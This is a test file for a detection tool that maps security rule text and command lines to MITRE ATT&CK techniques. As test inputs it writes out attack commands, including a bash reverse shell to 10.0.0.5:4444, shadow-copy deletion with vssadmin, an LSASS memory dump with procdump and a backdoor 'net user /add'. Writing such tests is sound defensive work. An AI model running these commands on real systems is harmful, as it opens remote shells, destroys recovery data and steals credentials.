import type { Corpus, TechniqueDoc } from '../../src/enrichment/corpus';
import { EnrichmentEngine } from '../../src/enrichment/engine';
import { loadPatterns } from '../../src/enrichment/patterns';
import {
  CLAUSE,
  features,
  SKIPPED,
  stem,
  stripMarkup,
  terms,
  unescapedPaths,
  untemplated,
} from '../../src/enrichment/text';

// Each signal of the engine on a small hand-made corpus (no database): what it finds, where,
// and how it ranks against the others.
function technique(
  attackId: string,
  name: string,
  description: string,
  extra: Partial<TechniqueDoc> = {},
): TechniqueDoc {
  return {
    stixId: `attack-pattern--${attackId}`,
    attackId,
    name,
    description,
    detection: '',
    domains: ['enterprise-attack'],
    platforms: ['Windows'],
    parent: null,
    tactics: ['execution'],
    procedures: [],
    detections: [],
    ...extra,
  };
}

const procedures = (source: string, texts: string[]) => texts.map((text) => ({ source, text }));

const corpus: Corpus = {
  techniques: [
    technique(
      'T1059',
      'Command and Scripting Interpreter',
      'Adversaries may abuse command and script interpreters to execute commands.',
      {
        procedures: procedures('malware--a', [
          '[A](https://attack.mitre.org/software/S1) runs commands through an interpreter.',
        ]),
      },
    ),
    technique(
      'T1059.001',
      'PowerShell',
      'Adversaries may abuse PowerShell commands and scripts for execution.',
      {
        parent: 'T1059',
        procedures: procedures('malware--b', [
          'has used PowerShell to download and run payloads.',
          'executed an encoded PowerShell command.',
          'used PowerShell scripts for discovery.',
        ]),
      },
    ),
    technique(
      'T1059.003',
      'Windows Command Shell',
      'Adversaries may abuse the Windows command shell (cmd) for execution.',
      {
        parent: 'T1059',
        procedures: procedures('malware--c', [
          'used cmd.exe to run batch scripts.',
          'ran commands with cmd /c.',
        ]),
      },
    ),
    technique(
      'T1003.001',
      'LSASS Memory',
      'Adversaries may access credential material stored in the memory of the Local Security Authority Subsystem Service (LSASS).',
      {
        tactics: ['credential-access'],
        procedures: procedures('tool--m', [
          'dumped LSASS memory to harvest credentials.',
          'read credentials from lsass process memory.',
        ]),
      },
    ),
    technique(
      'T1053.005',
      'Scheduled Task',
      'Adversaries may abuse the Windows Task Scheduler to perform task scheduling for execution and persistence.',
      {
        tactics: ['execution', 'persistence'],
        procedures: procedures('malware--d', [
          'created a scheduled task for persistence.',
          'used schtasks to run its payload daily.',
        ]),
      },
    ),
    technique(
      'T1490',
      'Inhibit System Recovery',
      'Adversaries may delete or remove built-in data and turn off services designed to aid in the recovery of a corrupted system, such as shadow copies.',
      {
        tactics: ['impact'],
        procedures: procedures('malware--e', [
          'deleted volume shadow copies with vssadmin.',
          'removed shadow copies before encryption.',
        ]),
      },
    ),
  ],
  actors: [
    {
      stixId: 'tool--m',
      attackId: 'S0002',
      name: 'Mimikatz',
      aliases: ['Mimikatz'],
      kind: 'software',
      techniques: ['T1003.001'],
    },
  ],
  revoked: [{ from: 'T1086', to: 'T1059.001' }],
  tactics: [
    { shortname: 'execution', id: 'TA0002', name: 'Execution' },
    { shortname: 'credential-access', id: 'TA0006', name: 'Credential Access' },
    { shortname: 'impact', id: 'TA0040', name: 'Impact' },
    { shortname: 'persistence', id: 'TA0003', name: 'Persistence' },
  ],
};

const engine = EnrichmentEngine.build(corpus, loadPatterns());
const top = (item: Parameters<EnrichmentEngine['enrich']>[0]) =>
  engine.enrich(item, { topK: 3, minConfidence: 0 });

/** An engine built on the corpus and more techniques (a family the test needs). */
const engineWith = (...extra: TechniqueDoc[]) =>
  EnrichmentEngine.build(
    { ...corpus, techniques: [...corpus.techniques, ...extra] },
    loadPatterns(),
  );

/** The best answer of an engine built on the corpus and one more technique. */
const topWith = (extra: TechniqueDoc, item: Parameters<EnrichmentEngine['enrich']>[0]) =>
  engineWith(extra).enrich(item, { topK: 1, minConfidence: 0 })[0];

describe('enrichment text', () => {
  it('removes ATT&CK markup and splits security text into stemmed terms', () => {
    expect(
      stripMarkup('[APT1](https://attack.mitre.org/groups/G0006) ran it.(Citation: X 2020)'),
    ).toBe('APT1 ran it. ');
    expect(terms('Executed rundll32.exe via -EncodedCommand')).toEqual([
      'execut',
      'rundll32.exe',
      'rundll32',
      'exe',
      'encodedcommand',
    ]);
    expect(stem('tasks')).toBe('task');
    expect(stem('scheduled')).toBe(stem('schedule'));
    expect(features('scheduled task')).toContain('schedul_task');
  });

  it('reads template placeholders as the words they name', () => {
    expect(untemplated('procdump -ma #{lsass_pid} #{out.file}')).toBe(
      'procdump -ma lsass-pid out-file',
    );
    expect(untemplated('net use \\\\#{remote_host}\\C$')).toBe('net use \\\\remote-host\\C$');
    // Only placeholders: braces of other kinds stay.
    expect(untemplated('${HOME} #{} #{a b}')).toBe('${HOME} #{} #{a b}');
  });

  it('reads paths escaped by a JSON or YAML export as written, and plain paths as they are', () => {
    // The strings below as a rule's export carries them: every backslash doubled.
    expect(unescapedPaths('TargetObject: HKLM\\\\Software\\\\Microsoft\\\\Windows')).toBe(
      'TargetObject: HKLM\\Software\\Microsoft\\Windows',
    );
    expect(unescapedPaths('copy x.exe \\\\\\\\srv\\\\C$\\\\Temp')).toBe(
      'copy x.exe \\\\srv\\C$\\Temp',
    );
    // Written plainly: a UNC prefix beside single separators, or a lone double.
    expect(unescapedPaths('net use \\\\srv\\C$')).toBe('net use \\\\srv\\C$');
    expect(unescapedPaths('\\\\srv')).toBe('\\\\srv');
    const runKeys = technique(
      'T1547.001',
      'Registry Run Keys / Startup Folder',
      'Adversaries may achieve persistence by adding a program to a startup folder or a Run key.',
      { tactics: ['persistence'] },
    );
    const s = topWith(runKeys, {
      text: 'TargetObject: HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run',
    });
    expect(s?.technique).toBe('T1547.001');
    expect(s?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'pattern', detail: 'run-key' }),
    );
  });
});

describe('the enrichment engine', () => {
  it('takes explicit ids and rule tags as given, resolving revoked ids', () => {
    expect(top({ tags: ['attack.t1059.001'] })[0]).toMatchObject({
      technique: 'T1059.001',
      confidence: 0.98,
      evidence: [{ signal: 'tag', field: 'tags', match: 'attack.t1059.001' }],
    });
    const revoked = top({ text: 'rule for T1086' })[0];
    expect(revoked).toMatchObject({ technique: 'T1059.001' });
    expect(revoked?.evidence[0]).toMatchObject({
      signal: 'id',
      detail: 'T1086 was revoked: replaced by T1059.001',
    });
    // An unknown id is not an answer.
    expect(top({ text: 'T9999' }).map((s) => s.technique)).not.toContain('T9999');
    // An id inside a name is read whole (an underscore bounds it), never cut back to its parent;
    // one inside a longer number is not an id.
    const named = top({ command_line: 'net user /add T1059.001_Admin Passw0rd!' }).map(
      (s) => s.technique,
    );
    expect(named[0]).toBe('T1059.001');
    expect(named).not.toContain('T1059');
    // Both a technique and its sub-technique given: the sub-technique first.
    expect(top({ text: 'T1059_test T1059.001_test' })[0]?.technique).toBe('T1059.001');
    expect(top({ text: 'build T10590 and T1059.0011' }).map((s) => s.technique)).not.toEqual(
      expect.arrayContaining(['T1059']),
    );
  });

  it('lets a tactic tag narrow the candidates', () => {
    const item = { text: 'scheduled task ran cmd /c to delete shadow copies' };
    const all = top(item).map((s) => s.technique);
    expect(all).toEqual(expect.arrayContaining(['T1053.005', 'T1490']));
    const impact = top({ ...item, tags: ['attack.impact'] }).map((s) => s.technique);
    expect(impact).toContain('T1490');
    expect(impact).not.toContain('T1053.005');
    expect(impact).not.toContain('T1059.003');
  });

  it('finds technique names in text', () => {
    const s = top({ title: 'Scheduled Task created by a user' });
    expect(s[0]?.technique).toBe('T1053.005');
    expect(s[0]?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'name', field: 'title', match: 'schedul task' }),
    );
  });

  it('marks skipped words and clause ends in a sequence read for names', () => {
    expect(terms('data from the local system. Run it, then', undefined, true)).toEqual([
      'data',
      SKIPPED,
      'local',
      'system',
      CLAUSE,
      'run',
      CLAUSE,
    ]);
    // Without marks the terms are those the model reads.
    expect(terms('data from the local system. Run it')).toEqual(['data', 'local', 'system', 'run']);
  });

  it('matches a name only where the text leaves out words as the name does', () => {
    const named = (text: string) =>
      top({ text })
        .flatMap((s) => s.evidence)
        .filter((e) => e.signal === 'name')
        .map((e) => e.detail);
    expect(named('a scheduled task was created')).toContain('Scheduled Task');
    // "Inhibit System Recovery": stop words between the terms, or a clause end, break the name.
    expect(named('inhibit system recovery')).toContain('Inhibit System Recovery');
    expect(named('inhibit the system recovery')).not.toContain('Inhibit System Recovery');
    expect(named('it runs as scheduled. Task output was written')).not.toContain('Scheduled Task');
  });

  it('counts a named software for the techniques it uses', () => {
    const s = top({ text: 'Mimikatz seen on host' });
    expect(s[0]?.technique).toBe('T1003.001');
    expect(s[0]?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'software', detail: 'Mimikatz' }),
    );
  });

  it('matches artefact patterns in command lines', () => {
    const s = top({ command_line: 'vssadmin.exe delete shadows /all /quiet' });
    expect(s[0]?.technique).toBe('T1490');
    expect(s[0]?.evidence).toContainEqual(
      expect.objectContaining({
        signal: 'pattern',
        field: 'command_line',
        detail: 'inhibit-recovery',
      }),
    );
  });

  it('learns from procedure text, and says which terms carried it', () => {
    const s = top({ text: 'credentials were read from the memory of the lsass process' });
    expect(s[0]?.technique).toBe('T1003.001');
    expect(s[0]?.evidence.some((e) => e.signal === 'text')).toBe(true);
  });

  it('prefers the sub-technique the evidence names, and ranks best first', () => {
    const s = top({ command_line: 'cmd.exe /c whoami' });
    expect(s[0]?.technique).toBe('T1059.003');
    for (let i = 1; i < s.length; i++)
      expect(s[i - 1]!.confidence).toBeGreaterThanOrEqual(s[i]!.confidence);
  });

  it('answers the sub-technique an artefact pattern names even when the text speaks of the family', () => {
    // The text is the parent's wording; the command line is PowerShell's artefact (medium).
    const s = top({
      text: 'command and scripting interpreter ran commands through an interpreter',
      command_line: 'pwsh -nop -w hidden',
    });
    expect(s[0]?.technique).toBe('T1059.001');
    expect(s[0]?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'pattern', detail: 'powershell-hidden-bypass' }),
    );
    // The same text with only a weak hint (a script's extension) does not settle it: the family
    // answers.
    expect(
      top({
        text: 'command and scripting interpreter ran commands through an interpreter',
        command_line: 'x.ps1',
      })[0]?.technique,
    ).toBe('T1059');
  });

  it('answers the technique a text names when nothing names one of its sub-techniques', () => {
    const c2 = { tactics: ['command-and-control'] };
    const family = engineWith(
      technique(
        'T1071',
        'Application Layer Protocol',
        'Adversaries may communicate using application layer protocols to blend in with existing traffic.',
        c2,
      ),
      technique(
        'T1071.001',
        'Web Protocols',
        'Adversaries may communicate using web protocols associated with web traffic.',
        {
          ...c2,
          parent: 'T1071',
          procedures: procedures('malware--w', [
            'beacons to its server with GET and POST requests.',
            'sends check-ins in POST bodies with a browser user agent.',
          ]),
        },
      ),
    );
    const best = (text: string) => family.enrich({ text }, { topK: 1, minConfidence: 0 })[0];
    // The web protocols' own wording, unnamed, is theirs.
    const wording = 'beacons to its server with GET and POST requests';
    expect(best(`it ${wording}`)?.technique).toBe('T1071.001');
    // Under the family's name, with nothing naming a sub-technique, the family answers.
    const named = best(`application layer protocol: ${wording}`);
    expect(named?.technique).toBe('T1071');
    expect(named?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'name', detail: 'Application Layer Protocol' }),
    );
    // Naming the sub-technique as well settles it again.
    expect(best(`application layer protocol, web protocols: ${wording}`)?.technique).toBe(
      'T1071.001',
    );
  });

  it('answers the sub-technique when patterns of equal strength name it and its parent', () => {
    const unix = technique(
      'T1059.004',
      'Unix Shell',
      'Adversaries may abuse Unix shell commands and scripts for execution.',
      { parent: 'T1059', platforms: ['Linux', 'macOS'] },
    );
    // A reverse shell names the family (medium), `bash -i` the Unix shell (medium).
    const s = topWith(unix, { command_line: 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1' });
    expect(s?.technique).toBe('T1059.004');
    expect(s?.evidence).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ signal: 'pattern', detail: 'reverse-shell' }),
        expect.objectContaining({ signal: 'pattern', detail: 'unix-shell-c' }),
      ]),
    );
  });

  it('splits a family between the sub-techniques that artefacts name', () => {
    // Two ways of one family named side by side (a rule listing interpreters as alternatives):
    // whichever answers, it is less sure than either artefact alone, not surer.
    const conf = (command_line: string) =>
      top({ text: 'a scheduled task ran', command_line })[0] as {
        technique: string;
        confidence: number;
      };
    const cmd = conf('cmd.exe /c whoami');
    const ps = conf('pwsh -nop -w hidden');
    expect([cmd.technique, ps.technique]).toEqual(['T1059.003', 'T1059.001']);
    const both = conf('pwsh -nop -w hidden cmd.exe /c whoami');
    expect(['T1059.001', 'T1059.003']).toContain(both.technique);
    expect(both.confidence).toBeLessThan(Math.min(cmd.confidence, ps.confidence));
  });

  it('answers the technique where its list pattern sees several of its sub-techniques', () => {
    const discovery = { tactics: ['discovery'] };
    const family = engineWith(
      technique(
        'T1087',
        'Account Discovery',
        'Adversaries may attempt to get a listing of valid accounts.',
        discovery,
      ),
      technique(
        'T1087.001',
        'Local Account',
        'Adversaries may attempt to get a listing of local system accounts.',
        { ...discovery, parent: 'T1087' },
      ),
      technique(
        'T1087.002',
        'Domain Account',
        'Adversaries may attempt to get a listing of domain accounts.',
        { ...discovery, parent: 'T1087' },
      ),
    );
    const best = (command_line: string) =>
      family.enrich({ command_line }, { topK: 1, minConfidence: 0 })[0];
    // Each way alone is its sub-technique (strong artefacts)...
    expect(best('net user')?.technique).toBe('T1087.001');
    expect(best('net user /domain')?.technique).toBe('T1087.002');
    // ...and both, where the parent's list pattern (`lists: true`) sees the pair, are the
    // technique itself.
    const both = best('net user & net user /domain');
    expect(both?.technique).toBe('T1087');
    expect(both?.evidence).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ signal: 'pattern', detail: 'account-discovery-general' }),
        expect.objectContaining({ signal: 'pattern', detail: 'domain-account-discovery' }),
      ]),
    );
  });

  it('matches artefacts in templated command lines (emulation plans, runbooks)', () => {
    const s = top({ command_line: 'procdump64.exe -accepteula -ma #{lsass_pid} #{output_file}' });
    expect(s[0]?.technique).toBe('T1003.001');
    expect(s[0]?.evidence).toContainEqual(
      expect.objectContaining({ signal: 'pattern', detail: 'lsass-dump' }),
    );
  });

  it('answers nothing below the threshold and the same thing every time', () => {
    expect(engine.enrich({ text: 'lunch menu for friday' }, { minConfidence: 0.9 })).toEqual([]);
    const item = { text: 'encoded PowerShell downloaded a payload' };
    expect(top(item)).toEqual(top(item));
    const again = EnrichmentEngine.build(corpus, loadPatterns());
    expect(again.enrich(item, { topK: 3, minConfidence: 0 })).toEqual(top(item));
  });

  it('reuses persisted combiner weights instead of fitting them again', () => {
    // Weights no fit would give: kept as given, and they decide the answer.
    const n = engine.weightVector().length;
    // Bias -20, every feature 0, identity calibration (a = 1, b = 0).
    const given = engine.weightVector().map((_, i) => (i === 0 ? -20 : i === n - 2 ? 1 : 0));
    const kept = EnrichmentEngine.build(corpus, loadPatterns(), { weights: given });
    expect(kept.weightVector()).toEqual(given);
    expect(kept.enrich({ text: 'schtasks /create /tn x' }, { minConfidence: 0.01 })).toEqual([]);
    // A vector of the wrong length (another engine version) is fitted again.
    const refit = EnrichmentEngine.build(corpus, loadPatterns(), { weights: [1, 2, 3] });
    expect(refit.weightVector()).toEqual(engine.weightVector());
  });
});
